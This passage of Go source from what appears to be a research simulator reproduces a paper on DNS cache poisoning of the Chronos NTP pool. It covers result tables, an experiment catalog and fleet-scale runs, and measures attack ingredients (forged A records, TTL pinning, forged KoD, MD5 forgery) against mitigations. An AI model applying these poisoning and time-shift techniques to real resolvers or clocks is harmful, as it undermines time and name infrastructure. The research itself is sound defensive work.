// CapacityPayload is E3: A records per single non-fragmented response,
// straight from the wire encoder.
type CapacityPayload struct {
	Rows []CapacityRow `json:"rows"`
}

// Kind implements Payload.
func (*CapacityPayload) Kind() string { return "forged-capacity" }

// Table implements Payload.
func (p *CapacityPayload) Table(m Meta) *Table {
	t := &Table{
		ID:      m.ID,
		Title:   "Forged-response capacity — A records per single non-fragmented response",
		Columns: []string{"udp-payload", "edns0", "max-A-records"},
	}
	for _, r := range p.Rows {
		t.AddRow(r.Payload, r.EDNS, r.Records)
	}
	t.Notes = append(t.Notes,
		"paper: 'up to 89 for a single non-fragmented DNS response' (1500-byte Ethernet MTU, EDNS0)",
		"benign pool.ntp.org responses carry 4",
	)
	return t
}

// SecurityBoundRow is one pool composition's closed-form expected effort
// to shift a Chronos client by the target.
type SecurityBoundRow struct {
	Pool            int           `json:"pool"`
	Malicious       int           `json:"malicious"`
	WinProb         Float         `json:"win_prob"`
	ConsecutiveWins int           `json:"consecutive_wins"`
	Expected        time.Duration `json:"expected_ns"` // saturates near 292 years
	Years           Float         `json:"years"`       // may be +Inf
}

// SecurityBoundPayload is E4: the §III "20 years of effort" bound across
// attacker fractions, with a Monte-Carlo cross-check in the poisoned
// regime.
type SecurityBoundPayload struct {
	Rows []SecurityBoundRow `json:"rows"`
	// PoisonedExpectedRounds is the closed-form E[rounds] at the paper's
	// poisoned pool (89/133); MonteCarloRounds is the simulated
	// cross-check of the same quantity.
	PoisonedExpectedRounds Float `json:"poisoned_expected_rounds"`
	MonteCarloRounds       Float `json:"monte_carlo_rounds"`
}

// Kind implements Payload.
func (*SecurityBoundPayload) Kind() string { return "security-bound" }

// Table implements Payload.
func (p *SecurityBoundPayload) Table(m Meta) *Table {
	t := &Table{
		ID:      m.ID,
		Title:   "Chronos security bound — expected effort to shift a client by 100 ms",
		Columns: []string{"pool", "malicious", "fraction", "round-win-prob", "consecutive-wins", "expected-effort", "years"},
	}
	for _, r := range p.Rows {
		// time.Duration saturates near 292 years; switch to years there.
		effort := r.Expected.String()
		if math.IsInf(float64(r.Years), 1) {
			effort = "never"
		} else if float64(r.Years) > 250 {
			effort = fmt.Sprintf("%.3g years", float64(r.Years))
		}
		years := fmt.Sprintf("%.3g", float64(r.Years))
		t.AddRow(r.Pool, r.Malicious, float64(r.Malicious)/float64(r.Pool),
			fmt.Sprintf("%.3g", float64(r.WinProb)), r.ConsecutiveWins, effort, years)
	}
	t.Notes = append(t.Notes,
		"paper (§III, citing Chronos NDSS'18): 'to shift time ... by 100ms a strong MitM attacker would need 20 years of effort'",
		"measured at the 1/3 boundary: see row 3 — years ≥ 20 reproduces the claim's order of magnitude",
		fmt.Sprintf("poisoned pool (89/133): %.1f expected rounds ≈ %.1f hours — the guarantee collapses",
			float64(p.PoisonedExpectedRounds), float64(p.PoisonedExpectedRounds)),
		fmt.Sprintf("monte-carlo cross-check (poisoned): %.1f rounds vs closed form %.1f",
			float64(p.MonteCarloRounds), float64(p.PoisonedExpectedRounds)),
	)
	return t
}

// FragStudyPayload is E5: the §II measurement-study marginals recovered
// from the calibrated synthetic populations.
type FragStudyPayload struct {
	FragmentingNameservers stats.Summary `json:"fragmenting_nameservers"` // of 30
	AcceptAnyFragment      stats.Summary `json:"accept_any_fragment"`     // percent
	AcceptTinyFragment     stats.Summary `json:"accept_tiny_fragment"`    // percent
	Triggerable            stats.Summary `json:"triggerable"`             // percent
}

// Kind implements Payload.
func (*FragStudyPayload) Kind() string { return "frag-study" }

// Table implements Payload.
func (p *FragStudyPayload) Table(m Meta) *Table {
	t := &Table{
		ID:      m.ID,
		Title:   "DNS fragmentation & triggering study (synthetic populations, calibrated to [3])",
		Columns: []string{"population", "property", "paper", "measured"},
	}
	t.AddRow("30 pool.ntp.org nameservers", "fragment at MTU 548", "16/30", fmtOutOf(p.FragmentingNameservers, 30))
	t.AddRow("100 resolvers", "accept fragments of some size", "90%", fmtPct(p.AcceptAnyFragment))
	t.AddRow("100 resolvers", "accept 68-byte-MTU fragments", "64%", fmtPct(p.AcceptTinyFragment))
	t.AddRow("100 resolver deployments", "queries triggerable via SMTP/open resolver", "14%", fmtPct(p.Triggerable))
	t.Notes = append(t.Notes,
		"populations are synthetic with ground truth drawn to match the published marginals;",
		"the probes exercise the same code paths the attacks use (PMTU forcing, reassembly, SMTP triggering)",
	)
	mcNote(t, m.Trials)
	return t
}

// TimeShiftPayload is E6: the end-to-end clock-error contrast after a 2 h
// attack phase — honest Chronos vs poisoned Chronos vs classic NTP on the
// same poisoned resolver.
type TimeShiftPayload struct {
	HonestFinal   stats.Summary `json:"honest_final"` // durations observed in ns
	HonestMax     stats.Summary `json:"honest_max"`
	PoisonedFinal stats.Summary `json:"poisoned_final"`
	PoisonedMax   stats.Summary `json:"poisoned_max"`
	PlainFinal    stats.Summary `json:"plain_final"`

	Updates   stats.Summary `json:"updates"` // poisoned-run chronos stats
	Resamples stats.Summary `json:"resamples"`
	Panics    stats.Summary `json:"panics"`
}

// Kind implements Payload.
func (*TimeShiftPayload) Kind() string { return "time-shift" }

// Table implements Payload.
func (p *TimeShiftPayload) Table(m Meta) *Table {
	t := &Table{
		ID:      m.ID,
		Title:   "End-to-end time shift after a 2 h attack phase (adaptive below-threshold strategy)",
		Columns: []string{"client", "pool", "final-offset", "max-offset"},
	}
	t.AddRow("chronos", "honest (96 benign)", fmtDur(p.HonestFinal), fmtDur(p.HonestMax))
	t.AddRow("chronos", "poisoned (44 benign + 89 malicious)", fmtDur(p.PoisonedFinal), fmtDur(p.PoisonedMax))
	t.AddRow("classic ntp (4 servers)", "poisoned (same resolver)", fmtDur(p.PlainFinal), "-")
	t.Notes = append(t.Notes,
		"paper: with ≥ 2/3 of the pool the attacker defeats both the normal path and panic mode; plain NTP falls with a single poisoning",
		fmt.Sprintf("chronos stats (poisoned): updates=%s resamples=%s panics=%s",
			fmtCount(p.Updates), fmtCount(p.Resamples), fmtCount(p.Panics)),
	)
	mcNote(t, m.Trials)
	return t
}

// MitigationRow is one §V defence's resulting pool composition.
type MitigationRow struct {
	Defence   string        `json:"defence"`
	Mechanism string        `json:"mechanism"`
	Benign    stats.Summary `json:"benign"`
	Malicious stats.Summary `json:"malicious"`
	Fraction  stats.Summary `json:"fraction"`
}

// MitigationsPayload is E7: the pool composition under each §V defence,
// including the persistent-hijack residual that defeats them all.
type MitigationsPayload struct {
	Rows []MitigationRow `json:"rows"`
}

// Kind implements Payload.
func (*MitigationsPayload) Kind() string { return "mitigations" }

// Table implements Payload.
func (p *MitigationsPayload) Table(m Meta) *Table {
	t := &Table{
		ID:      m.ID,
		Title:   "§V mitigations — pool composition under each defence",
		Columns: []string{"defence", "mechanism", "benign", "malicious", "attacker-fraction"},
	}
	for _, r := range p.Rows {
		t.AddRow(r.Defence, r.Mechanism, fmtCount(r.Benign), fmtCount(r.Malicious), fmtFrac(r.Fraction))
	}
	t.Notes = append(t.Notes,
		"paper §V: capping addresses and TTLs 'can be improved to limit the impact' ...",
		"... 'however, even with these mitigations, the dependency on the insecure DNS still remains' — the 24 h hijack row",
	)
	mcNote(t, m.Trials)
	return t
}

// TTLAblation is the pool composition reached with a given forged TTL.
type TTLAblation struct {
	TTL       time.Duration `json:"ttl_ns"`
	Benign    stats.Summary `json:"benign"`
	Malicious stats.Summary `json:"malicious"`
	Fraction  stats.Summary `json:"fraction"`
}

// SampleSizeAblation is the round-capture probability at a Chronos sample
// size m (trim d) on the poisoned pool.
type SampleSizeAblation struct {
	SampleSize  int   `json:"sample_size"`
	Trim        int   `json:"trim"`
	CaptureProb Float `json:"capture_prob"`
}

// InjectionAblation is the capture probability as the injected-address
// count varies against a fixed benign population.
type InjectionAblation struct {
	Malicious   int   `json:"malicious"`
	Pool        int   `json:"pool"`
	Fraction    Float `json:"fraction"`
	CaptureProb Float `json:"capture_prob"`
}

// AblationsPayload is E8: what each attack ingredient buys.
type AblationsPayload struct {
	TTL         []TTLAblation        `json:"ttl"`
	SampleSizes []SampleSizeAblation `json:"sample_sizes"`
	Injections  []InjectionAblation  `json:"injections"`
}

// Kind implements Payload.
func (*AblationsPayload) Kind() string { return "ablations" }

// Table implements Payload.
func (p *AblationsPayload) Table(m Meta) *Table {
	t := &Table{
		ID:      m.ID,
		Title:   "Ablations — what each attack ingredient buys",
		Columns: []string{"ablation", "setting", "outcome"},
	}
	for _, r := range p.TTL {
		t.AddRow("forged TTL", r.TTL.String(),
			fmt.Sprintf("final pool %sb+%sM, attacker %s",
				fmtCount(r.Benign), fmtCount(r.Malicious), fmtFrac(r.Fraction)))
	}
	for _, r := range p.SampleSizes {
		t.AddRow("chronos sample size (poisoned pool)", fmt.Sprintf("m=%d d=%d", r.SampleSize, r.Trim),
			fmt.Sprintf("round capture prob %.3f", float64(r.CaptureProb)))
	}
	for _, r := range p.Injections {
		t.AddRow("injected addresses (44 benign fixed)", fmt.Sprintf("%d malicious", r.Malicious),
			fmt.Sprintf("fraction %.3f, capture prob %.3g", float64(r.Fraction), float64(r.CaptureProb)))
	}
	t.Notes = append(t.Notes,
		"TTL pinning is what freezes the pool: with a 150 s forged TTL the benign count keeps growing past the poisoning",
		"capture probability is a threshold phenomenon in the pool fraction, not in m — matching the paper's 2/3 framing",
	)
	mcNote(t, m.Trials)
	return t
}

// FleetRow is one E9 grid point: a (poisoned count × fan-out × mitigation)
// cell's population aggregates.
type FleetRow struct {
	Poisoned      int           `json:"poisoned"`
	Distribution  string        `json:"distribution"`
	Mitigated     bool          `json:"mitigated"`
	Subverted     stats.Summary `json:"subverted"`
	Shifted       stats.Summary `json:"shifted"`
	Amplification stats.Summary `json:"amplification"`
	Planted       stats.Summary `json:"planted"`
}

// FleetStudyPayload is E9: the fleet-scale shared-resolver poisoning
// sweep.
type FleetStudyPayload struct {
	Clients   int        `json:"clients"`
	Resolvers int        `json:"resolvers"`
	Rows      []FleetRow `json:"rows"`
}

// Kind implements Payload.
func (*FleetStudyPayload) Kind() string { return "fleet-study" }

// Table implements Payload.
func (p *FleetStudyPayload) Table(m Meta) *Table {
	t := &Table{
		ID: m.ID,
		Title: fmt.Sprintf("Fleet-scale shared-resolver poisoning — %d clients behind %d resolvers",
			p.Clients, p.Resolvers),
		Columns: []string{
			"poisoned", "fan-out", "mitigation",
			"subverted(>=1/3)", "shifted(>100ms)", "amplification", "planted",
		},
	}
	for _, r := range p.Rows {
		mitLabel := "off"
		if r.Mitigated {
			mitLabel = "§V caps"
		}
		t.AddRow(r.Poisoned, r.Distribution, mitLabel,
			fmtFrac(r.Subverted), fmtFrac(r.Shifted),
			fmtCount(r.Amplification), fmtOutOf(r.Planted, r.Poisoned))
	}
	t.Notes = append(t.Notes,
		"subverted: clients whose Chronos pool ended ≥ 1/3 malicious (proof boundary) or whose classic bootstrap was majority-malicious",
		"shifted: clients the attacker moves > 100 ms within 24 h (sampled empirically: shiftsim greedy runs over the measured pool)",
		"amplification: clients subverted per poisoned resolver — the paper's population-level lever",
		"the attacker poisons the largest resolvers first; under zipf fan-out one cache covers a large population slice",
	)
	mcNote(t, m.Trials)
	return t
}

// AuthRow is one E11 grid point: an (attacker move × acceptance policy ×
// authenticated fraction × credential scheme) cell over the poisoned
// pool. Scheme is "-" when AuthFrac is 0 (no credentials to grade).
type AuthRow struct {
	Move     string  `json:"move"`
	Policy   string  `json:"policy"`
	AuthFrac float64 `json:"auth_frac"`
	Scheme   string  `json:"scheme"`

	Hit          stats.Summary `json:"hit"`           // 0/1 per trial: target reached within horizon
	ShiftedCount int           `json:"shifted_count"` // trials that reached the target
	TimeToShift  stats.Summary `json:"time_to_shift"` // over shifted trials only (ns)
	Updates      stats.Summary `json:"updates"`       // normal-path clock updates
	Panics       stats.Summary `json:"panics"`
	AuthRejected stats.Summary `json:"auth_rejected"` // samples dropped by the credential policy
	Demobilized  stats.Summary `json:"demobilized"`   // associations killed by believed forged kisses
}

// AuthStudyPayload is E11: the authentication arms race measured through
// the long-horizon shift engine on the paper's poisoned pool.
type AuthStudyPayload struct {
	Target     time.Duration `json:"target_ns"`
	Horizon    time.Duration `json:"horizon_ns"`
	Pool       int           `json:"pool"`
	Malicious  int           `json:"malicious"`
	MinSources int           `json:"min_sources"` // quorum size of the minsources policy arm
	Rows       []AuthRow     `json:"rows"`
}

// Kind implements Payload.
func (*AuthStudyPayload) Kind() string { return "auth-study" }

// Table implements Payload.
func (p *AuthStudyPayload) Table(m Meta) *Table {
	t := &Table{
		ID: m.ID,
		Title: fmt.Sprintf("Authentication arms race — greedy attacker on the %d/%d poisoned pool, %v target, %v horizon",
			p.Malicious, p.Pool, p.Target, p.Horizon),
		Columns: []string{
			"move", "policy", "auth-frac", "scheme",
			"shifted", "time-to-shift", "updates", "panics", "auth-rejects", "demobilized",
		},
	}
	for _, r := range p.Rows {
		timeCell := "> horizon"
		if r.ShiftedCount > 0 {
			timeCell = fmtLongDur(r.TimeToShift)
		}
		t.AddRow(
			r.Move, r.Policy, fmt.Sprintf("%.2f", r.AuthFrac), r.Scheme,
			fmtFrac(r.Hit), timeCell,
			fmtCount(r.Updates), fmtCount(r.Panics),
			fmtCount(r.AuthRejected), fmtCount(r.Demobilized),
		)
	}
	t.Notes = append(t.Notes,
		"auth-frac is the share of benign servers the client holds credentials for; frac > 0 puts it in require-auth mode (unverifiable samples dropped)",
		"schemes grade forgery resistance only: md5 is attacker-forgeable at line rate, sha256/nts are not (nts adds the cookie/uid binding cookie-replay tests)",
		"moves: "+authMoveLegend(),
		fmt.Sprintf("policy contrasts classic C1/C2 acceptance against a chrony-style best-cluster quorum of %d (no trim, no error bound)", p.MinSources),
		"auth-rejects counts samples the client's credential policy dropped; demobilized counts associations killed by believed forged DENY kisses",
	)
	mcNote(t, m.Trials)
	return t
}

// authMoveLegend renders the registered auth moves with their one-line
// descriptions, straight from the shiftsim registry.
func authMoveLegend() string {
	parts := ""
	for i, mv := range shiftsim.AuthMoves() {
		if i > 0 {
			parts += "; "
		}
		parts += mv + " = " + shiftsim.AuthMoveDescription(mv)
	}
	return parts
}

// ShiftRow is one E10 grid point: a (pool composition × strategy ×
// mitigation) cell. Pool and Malicious are the composition the engine
// actually ran (post-mitigation when Mitigated).
type ShiftRow struct {
	Pool      int    `json:"pool"`
	Malicious int    `json:"malicious"`
	Strategy  string `json:"strategy"`
	Mitigated bool   `json:"mitigated"`

	Hit          stats.Summary `json:"hit"`           // 0/1 per trial: target reached within horizon
	ShiftedCount int           `json:"shifted_count"` // trials that reached the target
	TimeToShift  stats.Summary `json:"time_to_shift"` // over shifted trials only (ns)
	Rounds       stats.Summary `json:"rounds"`        // over shifted trials only
	Panics       stats.Summary `json:"panics"`
	MaxPush      stats.Summary `json:"max_push"` // ns
}

// ShiftStudyPayload is E10: the long-horizon empirical time-to-shift grid
// cross-tabulated against the closed form.
type ShiftStudyPayload struct {
	Target  time.Duration `json:"target_ns"`
	Horizon time.Duration `json:"horizon_ns"`
	AddrCap int           `json:"addr_cap"` // §V client-side per-response address cap
	Rows    []ShiftRow    `json:"rows"`
}

// Kind implements Payload.
func (*ShiftStudyPayload) Kind() string { return "shift-study" }

// Table implements Payload.
func (p *ShiftStudyPayload) Table(m Meta) *Table {
	t := &Table{
		ID: m.ID,
		Title: fmt.Sprintf("Long-horizon shift engine — empirical time to %v shift vs closed form (horizon %v)",
			p.Target, p.Horizon),
		Columns: []string{
			"pool", "strategy", "mitigation",
			"shifted", "time-to-shift", "rounds", "closed-form", "panics", "max-push",
		},
	}
	for _, r := range p.Rows {
		mitLabel := "off"
		if r.Mitigated {
			mitLabel = "§V caps"
		}
		timeCell, roundCell := "> horizon", "-"
		if r.ShiftedCount > 0 {
			timeCell = fmtLongDur(r.TimeToShift)
			roundCell = fmtCount(r.Rounds)
		}
		t.AddRow(
			fmt.Sprintf("%d/%d (%.3f)", r.Malicious, r.Pool, float64(r.Malicious)/float64(r.Pool)),
			r.Strategy, mitLabel,
			fmtFrac(r.Hit),
			timeCell, roundCell, closedFormCell(r.Pool, r.Malicious, p.Target),
			fmtCount(r.Panics), fmtDur(r.MaxPush),
		)
	}
	t.Notes = append(t.Notes,
		"closed-form: analysis.TimeToShift at the greedy per-round step (ErrBound − 5ms) — the E4 model; 'never' = win probability too small",
		"shifted is the fraction of trials whose |clock error| crossed the target within the horizon; time-to-shift/rounds average the shifted trials only",
		fmt.Sprintf("§V caps: the client-side mitigation truncates the poisoned response to %d addresses, re-deriving the composition", p.AddrCap),
		"max-push is the largest forward update a trial accepted — stealth stays at its 5ms drip where greedy jumps by full steps",
		"the shiftsim cross-validation suite asserts the greedy (non-adaptive) rows agree with the closed form within the Monte-Carlo 95% CI",
	)
	mcNote(t, m.Trials)
	return t
}
