package eval

// The experiment catalog: one entry per experiment, introspected by
// cmd/genexperiments into the generated EXPERIMENTS.md. The catalog is
// the single registry tying an experiment ID to its paper claim, CLI
// invocation, and typed payload schema — adding an experiment without a
// catalog entry fails TestCatalogCoversAllKinds.

// CatalogEntry describes one experiment for documentation generation.
type CatalogEntry struct {
	ID      string   // stable experiment ID (E1..E10)
	Claim   string   // the paper claim this experiment reproduces
	Section string   // where the claim lives in the paper
	Run     string   // canonical CLI invocation
	Axes    []string // grid axes / tunable knobs
	Notes   []string // fidelity, checkpointing, cross-validation context

	// Payload is the experiment's zero-valued typed payload: its Kind()
	// names the JSON discriminator and its Table(Meta) carries the
	// rendered title and column set. Field-level schema is reflected
	// from its struct tags by the generator.
	Payload Payload
}

// Catalog returns every experiment in ID order.
func Catalog() []CatalogEntry {
	return []CatalogEntry{
		{
			ID:      "E1",
			Claim:   "A single DNS cache poisoning during pool generation leaves the attacker with ≥ 2/3 of the Chronos server pool (the paper's Figure 1).",
			Section: "§IV, Figure 1",
			Run:     "go run ./cmd/attacksim -experiment E1 [-trials N -parallel P]",
			Axes:    []string{"seed", "trials", "parallel"},
			Notes: []string{
				"Full packet fidelity: the resolver's upstream traffic, the forged responses, and the 24 hourly pool-generation queries all cross the simulated wire.",
			},
			Payload: &Figure1Payload{},
		},
		{
			ID:      "E2",
			Claim:   "Poisoning succeeds 'until or during the 12th DNS request' — and Chronos gives the off-path attacker more poisoning opportunities than classic NTP.",
			Section: "§IV",
			Run:     "go run ./cmd/attacksim -experiment E2 [-trials N -parallel P]",
			Axes:    []string{"seed", "trials", "parallel"},
			Notes: []string{
				"The analytical sweep (closed-form pool composition per poisoned query index) is cross-checked by simulated spot checks at selected indices.",
			},
			Payload: &AttackWindowPayload{},
		},
		{
			ID:      "E3",
			Claim:   "A single non-fragmented DNS response carries up to 89 forged A records (1500-byte MTU, EDNS0) — versus 4 in a benign pool.ntp.org response.",
			Section: "§IV",
			Run:     "go run ./cmd/attacksim -experiment E3 [-json]",
			Axes:    []string{"(deterministic — no seed/trials)"},
			Notes: []string{
				"Measured straight from the repository's DNS wire encoder, not assumed.",
			},
			Payload: &CapacityPayload{},
		},
		{
			ID:      "E4",
			Claim:   "Chronos' proven bound — 'to shift time by 100 ms a strong MitM attacker would need 20 years of effort' — holds below the 1/3 fraction and collapses to hours on the poisoned pool.",
			Section: "§III (citing Chronos NDSS'18)",
			Run:     "go run ./cmd/attacksim -experiment E4",
			Axes:    []string{"(closed form across attacker fractions; Monte-Carlo cross-check in the poisoned regime)"},
			Notes: []string{
				"The years column can be +Inf (honest pools); the JSON encoding carries it as the string \"+Inf\".",
			},
			Payload: &SecurityBoundPayload{},
		},
		{
			ID:      "E5",
			Claim:   "The paper's §II measurement marginals: 16/30 pool.ntp.org nameservers fragment at MTU 548, 90%/64% of resolvers accept (tiny) fragments, 14% of deployments are remotely triggerable.",
			Section: "§II",
			Run:     "go run ./cmd/attacksim -experiment E5 [-trials N -parallel P]",
			Axes:    []string{"seed", "trials", "parallel"},
			Notes: []string{
				"Synthetic populations calibrated to the published marginals; the probes exercise the same code paths the attacks use (PMTU forcing, reassembly, SMTP triggering).",
			},
			Payload: &FragStudyPayload{},
		},
		{
			ID:      "E6",
			Claim:   "With ≥ 2/3 of the pool the attacker shifts the Chronos client end-to-end, defeating both the normal path and panic mode; classic NTP falls to a single poisoning.",
			Section: "§IV",
			Run:     "go run ./cmd/attacksim -experiment E6 [-trials N -parallel P]",
			Axes:    []string{"seed", "trials", "parallel"},
			Notes: []string{
				"Multi-hour simulated sync phases; the slowest experiment (skipped under go test -short).",
			},
			Payload: &TimeShiftPayload{},
		},
		{
			ID:      "E7",
			Claim:   "The §V mitigations (address caps, TTL caps, pinning) restore the pool — but 'the dependency on the insecure DNS still remains': a persistent hijack defeats them all.",
			Section: "§V",
			Run:     "go run ./cmd/attacksim -experiment E7 [-trials N -parallel P]",
			Axes:    []string{"seed", "trials", "parallel", "-sweep mitigation (toggle grid)"},
			Notes:   nil,
			Payload: &MitigationsPayload{},
		},
		{
			ID:      "E8",
			Claim:   "Ablations: TTL pinning is what freezes the pool; capture probability is a threshold phenomenon in the pool fraction (the paper's 2/3 framing), not in the sample size m.",
			Section: "§IV/§V (analysis)",
			Run:     "go run ./cmd/attacksim -experiment E8 [-trials N -parallel P]",
			Axes:    []string{"forged TTL", "chronos sample size m", "injected-address count"},
			Notes:   nil,
			Payload: &AblationsPayload{},
		},
		{
			ID:      "E9",
			Claim:   "Population scale: poisoning a few large shared resolvers subverts a disproportionate client fraction (cache amplification), and the §V caps shrink but do not close the gap.",
			Section: "extension of §IV (fleet scale)",
			Run:     "go run ./cmd/attacksim -fleet -clients 10000 -resolvers 32 [-poisoned N -dist zipf|uniform]",
			Axes:    []string{"clients", "resolvers", "poisoned count", "fan-out distribution", "§V mitigation"},
			Notes: []string{
				"Each resolver shard is an independent seeded simulation reduced in shard order — bit-identical at any -parallel.",
				"The 'shifted' column is sampled empirically through the E10 shift engine, not assumed from the closed form.",
			},
			Payload: &FleetStudyPayload{},
		},
		{
			ID:      "E10",
			Claim:   "The headline 'decades to shift' bound, validated empirically: the long-horizon engine cross-tabulates time-to-100ms-shift × attacker fraction × strategy × §V mitigation against the closed form.",
			Section: "§III bound × §IV attacks (long horizon)",
			Run:     "go run ./cmd/attacksim -experiment E10 [-shift 100ms -horizon 168h -strategy all] [-checkpoint FILE | -resume FILE]",
			Axes:    []string{"target shift", "horizon", "strategy (greedy, stealth, intermittent, honest-until-threshold)", "§V mitigation", "seed", "trials"},
			Notes: []string{
				"Round-compressed fast path (simnet.FastForward) sustains >100k simulated rounds/sec; a packet-fidelity wire mode cross-checks the dynamics.",
				"Checkpointable: -checkpoint appends each completed trial to a JSONL file; -resume skips restored trials and the final table is bit-identical to an uninterrupted run.",
			},
			Payload: &ShiftStudyPayload{},
		},
		{
			ID:      "E11",
			Claim:   "What the paper leaves open: per-server authentication (symmetric MACs / NTS-style cookies) defeats the poisoned-pool shift — unless the scheme is forgeable or the client tolerates unauthenticated replies — and forged KoD turns compliance itself into the attack surface.",
			Section: "beyond §V (authenticated time)",
			Run:     "go run ./cmd/attacksim -experiment E11 [-auth all|shift|mac-strip|forge-kod|cookie-replay] [-quorum N]",
			Axes:    []string{"attacker move (shift, mac-strip, forge-kod, cookie-replay)", "acceptance policy (C1/C2 vs minsources quorum)", "authenticated fraction (0, 0.67, 1)", "credential scheme (md5, sha256, nts)", "seed", "trials"},
			Notes: []string{
				"Runs the E10 engine with the internal/ntpauth decision model; the per-sample semantics (require-auth rejection, forged-KoD demobilization, replay binding) are pinned against the packet-level stack by the chronos/wirenet auth tests.",
				"The headline contrast: every move shifts the unauthenticated client, none shifts a require-auth client under a strong scheme (the attack degrades to starvation), and MD5 re-enables all of them.",
			},
			Payload: &AuthStudyPayload{},
		},
	}
}
