package eval

import (
	"context"
	"fmt"

	"chronosntp/internal/fleet"
	"chronosntp/internal/mitigation"
)

// FleetStudy (E9) is the population-scale experiment: a fleet of shared
// caching resolvers with a Zipf- or uniformly-distributed client
// population (Chronos + classic), swept over the number of poisoned
// resolvers × the fan-out distribution × the §V mitigations. It measures
// the paper's amplification claim at fleet scale: the fraction of clients
// whose pool ends ≥ 1/3 malicious (the proof boundary), the fraction the
// attacker can shift beyond 100 ms within a day, and the
// cache-amplification factor (clients subverted per poisoned resolver).
//
// Each trial is one full fleet run; shards fan out across the worker pool
// and reduce in shard-index order, so the table is bit-identical at any
// parallelism.
func FleetStudy(seed int64, trials, parallel, clients, resolvers int) (*Table, error) {
	if trials < 1 {
		trials = 1
	}
	if clients == 0 {
		clients = 1000
	}
	if resolvers == 0 {
		resolvers = 10
	}
	poisonCounts := []int{0, 1}
	if more := resolvers / 4; more > 1 {
		poisonCounts = append(poisonCounts, more)
	}
	dists := []fleet.Distribution{fleet.Zipf, fleet.Uniform}

	t := &Table{
		ID: "E9",
		Title: fmt.Sprintf("Fleet-scale shared-resolver poisoning — %d clients behind %d resolvers",
			clients, resolvers),
		Columns: []string{
			"poisoned", "fan-out", "mitigation",
			"subverted(>=1/3)", "shifted(>100ms)", "amplification", "planted",
		},
	}
	for _, poisoned := range poisonCounts {
		for _, dist := range dists {
			for _, mitigated := range []bool{false, true} {
				var subverted, shifted, amplification, planted []float64
				for k := 0; k < trials; k++ {
					cfg := fleet.Config{
						Seed:         seed + int64(k),
						Clients:      clients,
						Resolvers:    resolvers,
						Distribution: dist,
						Poisoned:     poisoned,
					}
					if mitigated {
						cfg.ResolverPolicy = mitigation.PaperResolverPolicy()
						cfg.ClientPolicy = mitigation.PaperClientPolicy()
					}
					res, err := fleet.Run(context.Background(), cfg, parallel)
					if err != nil {
						return nil, err
					}
					subverted = append(subverted, res.SubvertedFraction)
					shifted = append(shifted, res.ShiftedFraction)
					amplification = append(amplification, res.Amplification)
					planted = append(planted, float64(res.PlantedResolvers))
				}
				mitLabel := "off"
				if mitigated {
					mitLabel = "§V caps"
				}
				t.AddRow(poisoned, dist.String(), mitLabel,
					fmtFrac(describe(subverted)), fmtFrac(describe(shifted)),
					fmtCount(describe(amplification)), fmtOutOf(describe(planted), poisoned))
			}
		}
	}
	t.Notes = append(t.Notes,
		"subverted: clients whose Chronos pool ended ≥ 1/3 malicious (proof boundary) or whose classic bootstrap was majority-malicious",
		"shifted: clients the attacker moves > 100 ms within 24 h (sampled empirically: shiftsim greedy runs over the measured pool)",
		"amplification: clients subverted per poisoned resolver — the paper's population-level lever",
		"the attacker poisons the largest resolvers first; under zipf fan-out one cache covers a large population slice",
	)
	mcNote(t, trials)
	return t, nil
}
