package eval

import (
	"context"

	"chronosntp/internal/fleet"
	"chronosntp/internal/mitigation"
)

// FleetStudy (E9) is the population-scale experiment: a fleet of shared
// caching resolvers with a Zipf- or uniformly-distributed client
// population (Chronos + classic), swept over the number of poisoned
// resolvers × the fan-out distribution × the §V mitigations. It measures
// the paper's amplification claim at fleet scale: the fraction of clients
// whose pool ends ≥ 1/3 malicious (the proof boundary), the fraction the
// attacker can shift beyond 100 ms within a day, and the
// cache-amplification factor (clients subverted per poisoned resolver).
//
// Each trial is one full fleet run; shards fan out across the worker pool
// and reduce in shard-index order, so the table is bit-identical at any
// parallelism.
func FleetStudy(seed int64, trials, parallel, clients, resolvers int) (*Result, error) {
	if trials < 1 {
		trials = 1
	}
	if clients == 0 {
		clients = 1000
	}
	if resolvers == 0 {
		resolvers = 10
	}
	poisonCounts := []int{0, 1}
	if more := resolvers / 4; more > 1 {
		poisonCounts = append(poisonCounts, more)
	}
	dists := []fleet.Distribution{fleet.Zipf, fleet.Uniform}

	p := &FleetStudyPayload{Clients: clients, Resolvers: resolvers}
	for _, poisoned := range poisonCounts {
		for _, dist := range dists {
			for _, mitigated := range []bool{false, true} {
				var subverted, shifted, amplification, planted []float64
				for k := 0; k < trials; k++ {
					cfg := fleet.Config{
						Seed:         seed + int64(k),
						Clients:      clients,
						Resolvers:    resolvers,
						Distribution: dist,
						Poisoned:     poisoned,
					}
					if mitigated {
						cfg.ResolverPolicy = mitigation.PaperResolverPolicy()
						cfg.ClientPolicy = mitigation.PaperClientPolicy()
					}
					res, err := fleet.Run(context.Background(), cfg, parallel)
					if err != nil {
						return nil, err
					}
					subverted = append(subverted, res.SubvertedFraction)
					shifted = append(shifted, res.ShiftedFraction)
					amplification = append(amplification, res.Amplification)
					planted = append(planted, float64(res.PlantedResolvers))
				}
				p.Rows = append(p.Rows, FleetRow{
					Poisoned:      poisoned,
					Distribution:  dist.String(),
					Mitigated:     mitigated,
					Subverted:     describe(subverted),
					Shifted:       describe(shifted),
					Amplification: describe(amplification),
					Planted:       describe(planted),
				})
			}
		}
	}
	return &Result{Meta: newMeta("E9", seed, trials), Payload: p}, nil
}
