package eval

import (
	"context"
	"fmt"
	"math/rand"
	"time"

	"chronosntp/internal/analysis"
	"chronosntp/internal/core"
	"chronosntp/internal/mitigation"
	"chronosntp/internal/runner"
)

// The scenario-backed experiments (E1, E2, E5, E6, E7, E8) are Monte-Carlo
// runs: `trials` independently seeded replicas of every scenario are fanned
// across `parallel` workers by internal/runner, and each reported number is
// the mean ± 95% CI across the replicas. trials = 1 reproduces the original
// single-seed tables verbatim; the aggregates are bit-identical at any
// parallelism.
//
// Every experiment returns a typed *Result (Meta + payload); the text
// table is derived from the payload by Result.Table, so the JSON form and
// the rendered table can never diverge.

// Figure1 reproduces the paper's Figure 1: the Chronos pool composition
// across the 24 hourly pool-generation queries with the defragmentation
// poisoning landing at query 12. Paper: 44 benign + 89 malicious ⇒ the
// attacker holds a 2/3 majority.
func Figure1(seed int64, trials, parallel int) (*Result, error) {
	if trials < 1 {
		trials = 1
	}
	grid := runner.Grid{
		Base:  core.Config{Mechanism: core.Defrag, PoisonQuery: 12},
		Seeds: runner.Seeds(seed, trials),
	}
	agg, results, err := runner.MonteCarlo(context.Background(), grid.Trials(), parallel)
	if err != nil {
		return nil, err
	}
	p := &Figure1Payload{Mechanism: results[0].Mechanism.String(), PoisonQuery: 12}
	queries := len(results[0].PerQuery)
